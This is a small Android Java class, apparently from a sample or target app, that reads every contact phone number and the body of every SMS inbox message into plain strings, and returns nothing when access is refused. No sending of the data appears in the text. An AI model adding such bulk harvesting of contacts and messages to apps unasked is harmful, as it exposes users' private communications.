package org.apkfarm.sample.oldtarget;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import android.provider.ContactsContract;

/** Reads the address book and the inbox. */
final class People {
    private static final Uri INBOX = Uri.parse("content://sms/inbox");

    private People() {}

    static String contacts(Context context) {
        return column(
                context,
                ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                ContactsContract.CommonDataKinds.Phone.NUMBER);
    }

    static String messages(Context context) {
        return column(context, INBOX, "body");
    }

    private static String column(Context context, Uri table, String name) {
        StringBuilder text = new StringBuilder();
        try {
            Cursor rows = context.getContentResolver().query(table, new String[] {name}, null, null, null);
            if (rows != null) {
                while (rows.moveToNext()) {
                    text.append(rows.getString(0)).append('\n');
                }
                rows.close();
            }
        } catch (SecurityException refused) {
            return "";
        }
        return text.toString();
    }
}
